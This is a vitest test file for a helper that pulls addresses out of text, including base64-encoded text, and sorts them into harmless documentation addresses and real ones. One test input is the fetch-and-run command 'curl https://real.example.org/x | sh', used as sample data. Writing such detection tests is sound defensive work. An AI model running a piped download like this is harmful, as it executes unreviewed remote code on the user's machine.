import { describe, expect, it } from "vitest";
import { addressesIn, isHarmless } from "./harmless-addresses.ts";

describe("harmless addresses", () => {
  it.each(["https://a.example/x", "http://192.0.2.1", "http://[2001:db8::1]:80/", "http://3325256711/x"])(
    "has %s",
    (text) => {
      expect(addressesIn(text).every(isHarmless)).toBe(true);
    },
  );

  it.each([
    "https://a.example.org/x",
    "http://8.8.8.8",
    "curl 10.0.0.1:80",
    "http://[2001:4860::8888]/",
    "http://16843009/x",
  ])("has not %s", (text) => {
    expect(addressesIn(text).every(isHarmless)).toBe(false);
  });

  it("are looked for within base64, too", () => {
    expect(addressesIn(Buffer.from("curl https://real.example.org/x | sh").toString("base64"))).toContain(
      "real.example.org",
    );
  });
});
